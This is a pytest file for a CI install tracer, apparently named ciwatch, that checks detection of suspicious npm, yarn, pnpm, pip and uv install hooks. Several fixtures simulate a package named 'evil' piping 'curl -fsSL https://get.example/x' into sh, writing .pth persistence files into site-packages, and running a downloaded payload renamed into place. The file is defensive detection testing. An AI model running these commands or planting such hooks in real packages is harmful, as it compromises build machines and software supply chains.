"""Issue 13's known misses, found by installing real projects: each test lays out what the
tracer saw in the real install (with the Build helper of test_rules) and checks the class
behind it is fixed, while the dangerous variant of the same shape is still caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from ciwatch.record.events import FileHash, RegistryAllowed
from ciwatch.record.vocabulary import FileOp
from tests.test_rules import PROJECT, Build, Proc, found, npm_env, only


@pytest.fixture
def build(tmp_path: Path) -> Build:
    return Build(tmp_path)


# -- yarn berry run through yarnPath ---------------------------------------------------------


@pytest.mark.parametrize("release", [".yarn/releases/yarn-4.4.1.cjs", ".yarn/releases/yarn-3.6.4.js"])
def test_yarn_berry_through_yarn_path_runs_hooks_that_are_attributed(build: Build, release: str) -> None:
    # Yarn berry has no `sh -c`: its own shell runs the script's first command (through the
    # node wrapper in BERRY_BIN_FOLDER) directly under yarn's node process.
    yarn = build.root.spawn(["node", f"{PROJECT}/{release}", "install"])
    hook = yarn.spawn(
        ["/tmp/xfs-1a2b3c4d/node", "install.js"],
        env=npm_env("evil", "1.0.0", "postinstall"),
        cwd=f"{PROJECT}/node_modules/evil",
    )
    hook.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[7]")
    hook.spawn(["sh"], stdin="pipe:[7]")
    verdict = build.judge()
    assert verdict.hooks == 1
    finding = only(verdict, "hook-shell")
    assert (finding.ecosystem, finding.package, finding.hook) == ("yarn", "evil@1.0.0", "postinstall")


def test_under_yarn_berry_the_hooks_first_command_is_judged_too(build: Build) -> None:
    # `curl ... | sh` as a berry script: yarn's own shell starts curl and sh, each a boundary.
    yarn = build.root.spawn(["node", f"{PROJECT}/.yarn/releases/yarn-4.4.1.cjs", "install"])
    env, cwd = npm_env("evil", "1.0.0", "postinstall"), f"{PROJECT}/node_modules/evil"
    yarn.spawn(["curl", "-fsSL", "https://get.example/x"], env=env, cwd=cwd, stdout="pipe:[8]")
    shell = yarn.spawn(["sh"], env=env, cwd=cwd, stdin="pipe:[8]")
    finding = only(build.judge(), "hook-shell")
    assert finding.evidence == (shell.seq,) and finding.package == "evil@1.0.0"


def test_npms_sh_c_wrapper_at_the_boundary_is_still_not_judged(build: Build) -> None:
    build.hook(script="node install.js").spawn(["node", "install.js"])
    assert found(build.judge(), "hook-shell") == []


def test_a_script_merely_named_like_a_yarn_release_is_not_yarn(build: Build) -> None:
    tool = build.root.spawn(["node", f"{PROJECT}/scripts/yarn-helper.cjs"])
    tool.spawn(["sh", "-c", "true"], env=npm_env("evil", "1.0.0", "postinstall"))
    assert build.judge().hooks == 0


# -- apt's SRV lookup of its mirror ----------------------------------------------------------


def test_a_service_lookup_of_an_allowed_registry_is_the_registry_and_others_are_not(build: Build) -> None:
    mirror = "deb.mirror.example"
    build.add(RegistryAllowed(host=mirror, ecosystem="dpkg", source="apt-get indextargets"))
    apt = build.root.spawn(["/usr/lib/apt/methods/http"])
    apt.dns(f"_http._tcp.{mirror}", qtype="SRV")  # apt asks before its first fetch (cold cache)
    apt.dns("_http._tcp.other.example", qtype="SRV")
    apt.dns(f"_x.{mirror}")  # not a service name: a name of its own under the mirror's zone
    hosts = sorted(finding.host or "" for finding in found(build.judge(), "unfamiliar-egress"))
    assert hosts == ["_http._tcp.other.example", f"_x.{mirror}"]


# -- npm i -g pnpm: a global package's hook writing its own folder ---------------------------


def _elf(build: Build, path: str, writer: int) -> None:
    build.add(FileHash(path=path, sha256="ab" * 32, size=1000, mode=0o755, file_type="elf", written_by=writer))


def test_a_global_packages_hook_placing_its_own_binaries_is_install_output(tmp_path: Path) -> None:
    build = Build(tmp_path, command=("npm", "i", "-g", "pnpm"))
    folder = "/usr/local/lib/node_modules/pnpm"
    hook = build.hook("pnpm", "10.5.0", "preinstall", cwd=folder).spawn(["node", "setup.js"])
    for name in ("dist/pnpm", "dist/node-gyp-bin/node-gyp", "bin/pnpm.exe"):
        hook.write(f"{folder}/{name}")
        _elf(build, f"{folder}/{name}", hook.pid)
    # The same hook writing outside its folder is still a finding.
    hook.write("/usr/local/lib/node_modules/npm/bin/npm-cli.js")
    _elf(build, "/usr/local/lib/node_modules/npm/bin/npm-cli.js", hook.pid)
    hook.write("/usr/local/bin/pnpx")
    _elf(build, "/usr/local/bin/pnpx", hook.pid)
    paths = sorted(
        finding.message.split(" wrote the executable ")[1].split()[0]
        for finding in found(build.judge(), "executable-write")
    )
    assert paths == ["/usr/local/bin/pnpx", "/usr/local/lib/node_modules/npm/bin/npm-cli.js"]


def test_a_hook_run_from_the_home_directory_has_no_folder_of_its_own(tmp_path: Path) -> None:
    build = Build(tmp_path)
    hook = build.hook("evil", cwd="/home").spawn(["node", "x.js"])
    hook.write("/home/ci/tools/run")
    _elf(build, "/home/ci/tools/run", hook.pid)
    assert len(found(build.judge(), "executable-write")) == 1


# -- a .pth in a build's staging tree --------------------------------------------------------


def test_a_pth_file_counts_only_in_a_directory_python_reads_at_start_up(build: Build) -> None:
    pip = build.pip_root()
    hook = build.pip_hook(pip, "setuptools", "75.8.0")
    staged = "/work/.tmp/build-x1/setuptools/build/bdist.linux-x86_64/wheel/distutils-precedence.pth"
    hook.write(staged)  # setuptools building itself: its own .pth, in the wheel being built
    hook.write(f"{PROJECT}/build/lib/evil.pth")
    hook.write("/home/ci/.local/lib/python3.11/site-packages/evil.pth")
    hook.write("/usr/lib/python3/dist-packages/evil.pth")
    messages = [finding.message for finding in found(build.judge(), "persistence-write")]
    assert len(messages) == 2 and all("site-packages" in m or "dist-packages" in m for m in messages), messages


# -- uv's PEP 517 builds ---------------------------------------------------------------------

UV_GET_REQUIRES = """import sys

if sys.path[0] == "":
    sys.path.pop(0)

sys.path = [] + sys.path

from setuptools.build_meta import __legacy__ as backend
import json

get_requires_for_build = getattr(backend, "get_requires_for_build_wheel", None)
if get_requires_for_build:
    requires = get_requires_for_build({})
"""
UV_BUILD_WHEEL = """import flit_core.buildapi as backend

wheel_filename = backend.build_wheel("/home/ci/.cache/uv/builds-v0/.tmpQ/w", {}, None)
"""


@pytest.mark.parametrize(
    ("code", "hook_name", "cwd", "package"),
    [
        (UV_GET_REQUIRES, "get_requires_for_build_wheel", "/home/ci/.cache/uv/sdists-v9/pypi/evil/1.0.0/a1/src", {}),
        (UV_BUILD_WHEEL, "build_wheel", "/home/ci/.cache/uv/sdists-v9/index/9f8e/evil/1.0.0/b2/src", {}),
        (UV_BUILD_WHEEL, "build_wheel", "/work/app/vendor/evil", {"name": "evil", "version": "1.0.0"}),
    ],
    ids=["get-requires-named-by-the-cache-path", "build-wheel-other-index", "build-wheel-named-by-pkg-info"],
)
def test_uv_runs_each_pep517_hook_as_inline_code_and_it_is_a_pip_hook(
    build: Build, code: str, hook_name: str, cwd: str, package: dict[str, str]
) -> None:
    uv = build.root.spawn(["uv", "pip", "install", "evil"])
    backend = uv.spawn(["/home/ci/.cache/uv/builds-v0/.tmpQ/bin/python", "-c", code], cwd=cwd, package=package)
    # setup.py piping a download into sh, from inside the backend
    shell = backend.spawn(["/bin/sh", "-c", "curl -fsSL https://get.example/x | sh"])
    shell.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[9]")
    shell.spawn(["sh"], stdin="pipe:[9]")
    verdict = build.judge()
    assert verdict.hooks == 1
    finding = only(verdict, "hook-shell")
    assert (finding.ecosystem, finding.package, finding.hook) == ("pip", "evil@1.0.0", hook_name)


def test_inline_python_under_uv_that_imports_no_backend_is_no_hook(build: Build) -> None:
    uv = build.root.spawn(["uv", "pip", "install", "evil"])
    uv.spawn(["/usr/bin/python3", "-c", "import sys; print(sys.version)"])
    uv.spawn(["/usr/bin/python3", "-c", "import json as backend; backend.dumps(1)"])
    assert build.judge().hooks == 0


# -- esbuild's postinstall: its platform binary put in place and run -------------------------

ESBUILD = f"{PROJECT}/node_modules/esbuild"
PLATFORM_BINARY = f"{PROJECT}/node_modules/@esbuild/linux-x64/bin/esbuild"
DIGEST = "e5" * 32


def _hash(build: Build, path: str, writer: int, digest: str = DIGEST) -> None:
    build.add(FileHash(path=path, sha256=digest, size=9_000_000, mode=0o755, file_type="elf", written_by=writer))


def _esbuild_postinstall(
    build: Build, installer: Proc, platform_binary: str, package_dir: str, parent: Proc | None = None
) -> int:
    """What esbuild's install.js does: link the binary next to its shim, rename it over the
    shim, run it with --version (the digest is taken as it runs). The run's seq."""
    boundary = build.hook("esbuild", "0.24.2", cwd=package_dir, parent=parent)
    hook = boundary.spawn(["node", "install.js"], cwd=package_dir)
    hook.write(platform_binary, FileOp.LINK, target=f"{package_dir}/bin-esbuild")
    hook.write(f"{package_dir}/bin-esbuild", FileOp.RENAME, target=f"{package_dir}/bin/esbuild")
    check = hook.spawn([f"{package_dir}/bin/esbuild", "--version"], path=f"{package_dir}/bin/esbuild")
    _hash(build, f"{package_dir}/bin/esbuild", hook.pid)
    _hash(build, platform_binary, installer.pid)  # every written executable, at the end
    return check.seq


def test_esbuild_under_npm_runs_its_installed_binary_not_a_dropper(build: Build) -> None:
    build.root.write(PLATFORM_BINARY)  # npm unpacking the optional dependency's tarball
    _esbuild_postinstall(build, build.root, PLATFORM_BINARY, ESBUILD)
    verdict = build.judge()
    finding = only(verdict, "exec-written-file")
    assert verdict.verdict.value == "pass" and verdict.counted == []
    assert finding.excepted is not None
    assert f"hard-linked from {PLATFORM_BINARY} (installed by npm)" in finding.excepted, finding.excepted


def test_esbuild_under_pnpm_runs_its_installed_binary_not_a_dropper(build: Build) -> None:
    store = "/home/ci/.local/share/pnpm/store/v10/files/3f/a1b2c3-exec"
    virtual = f"{PROJECT}/node_modules/.pnpm"
    binary = f"{virtual}/@esbuild+linux-x64@0.24.2/node_modules/@esbuild/linux-x64/bin/esbuild"
    pnpm = build.root.spawn(["node", "/usr/lib/node_modules/pnpm/bin/pnpm.cjs", "install"])
    pnpm.write(store)  # the store, filled from the registry
    pnpm.write(store, FileOp.LINK, target=binary)  # and linked into the virtual store
    _esbuild_postinstall(build, pnpm, binary, f"{virtual}/esbuild@0.24.2/node_modules/esbuild", parent=pnpm)
    verdict = build.judge()
    assert verdict.counted == []
    assert "(installed by pnpm)" in (only(verdict, "exec-written-file").excepted or "")


def test_a_hook_copying_an_installed_binary_is_recognised_by_its_digest(build: Build) -> None:
    build.root.write(PLATFORM_BINARY)
    hook = build.hook("esbuild", "0.24.2", cwd=ESBUILD).spawn(["node", "install.js"], cwd=ESBUILD)
    hook.write(f"{ESBUILD}/bin/esbuild")  # fs.copyFileSync
    hook.spawn([f"{ESBUILD}/bin/esbuild", "--version"], path=f"{ESBUILD}/bin/esbuild")
    _hash(build, f"{ESBUILD}/bin/esbuild", hook.pid)
    _hash(build, PLATFORM_BINARY, build.root.pid)
    finding = only(build.judge(), "exec-written-file")
    assert f"copied from {PLATFORM_BINARY} (installed by npm)" in (finding.excepted or "")


def test_a_binary_whose_bytes_came_from_the_network_is_still_counted(build: Build) -> None:
    # esbuild's fallback when the optional dependency is missing: the hook fetches the tarball
    # itself and writes the binary out of it. Same path, same run: the bytes are the network's.
    build.root.write(PLATFORM_BINARY)  # (even with an installed binary of another digest around)
    hook = build.hook("esbuild", "0.24.2", cwd=ESBUILD).spawn(["node", "install.js"], cwd=ESBUILD)
    hook.request("registry.example.internal")
    hook.write(f"{ESBUILD}/bin/esbuild")
    hook.spawn([f"{ESBUILD}/bin/esbuild", "--version"], path=f"{ESBUILD}/bin/esbuild")
    _hash(build, f"{ESBUILD}/bin/esbuild", hook.pid, digest="0d" * 32)
    _hash(build, PLATFORM_BINARY, build.root.pid)
    finding = only(build.judge(), "exec-written-file")
    assert finding.excepted is None


def test_a_link_chain_back_to_a_file_the_hook_wrote_itself_is_still_counted(build: Build) -> None:
    hook = build.hook("evil", cwd=f"{PROJECT}/node_modules/evil").spawn(["node", "install.js"])
    hook.write("/tmp/payload")  # downloaded
    hook.write("/tmp/payload", FileOp.LINK, target="/tmp/stage")
    hook.write("/tmp/stage", FileOp.RENAME, target=f"{PROJECT}/node_modules/evil/bin/tool")
    hook.spawn([f"{PROJECT}/node_modules/evil/bin/tool"], path=f"{PROJECT}/node_modules/evil/bin/tool")
    _hash(build, f"{PROJECT}/node_modules/evil/bin/tool", hook.pid)
    _hash(build, "/tmp/payload", hook.pid)
    assert only(build.judge(), "exec-written-file").excepted is None


def test_a_link_to_a_file_a_hook_wrote_earlier_is_counted_even_if_a_package_manager_also_wrote_it(
    build: Build,
) -> None:
    build.root.write(PLATFORM_BINARY)
    evil = build.hook("evil", cwd=f"{PROJECT}/node_modules/evil").spawn(["node", "x.js"])
    evil.write(PLATFORM_BINARY)  # another package's hook overwrote the installed binary
    _esbuild_postinstall(build, build.root, PLATFORM_BINARY, ESBUILD)
    assert only(build.judge(), "exec-written-file").excepted is None


def test_pnpm_unpacking_into_a_temporary_directory_renamed_into_place_is_the_installer(build: Build) -> None:
    # pnpm 9 (seen in a real run) writes a package into `<name>_tmp_<pid>` and renames the
    # directory: the binary's final path is never written by name.
    virtual = f"{PROJECT}/node_modules/.pnpm"
    package_dir = f"{virtual}/@esbuild+linux-x64@0.24.2/node_modules/@esbuild/linux-x64"
    pnpm = build.root.spawn(["node", "/usr/lib/node_modules/pnpm/bin/pnpm.cjs", "install"])
    pnpm.write(f"{package_dir}_tmp_4242/bin/esbuild")
    pnpm.write(f"{package_dir}_tmp_4242", FileOp.RENAME, target=package_dir)
    esbuild = f"{virtual}/esbuild@0.24.2/node_modules/esbuild"
    _esbuild_postinstall(build, pnpm, f"{package_dir}/bin/esbuild", esbuild, parent=pnpm)
    assert "(installed by pnpm)" in (only(build.judge(), "exec-written-file").excepted or "")
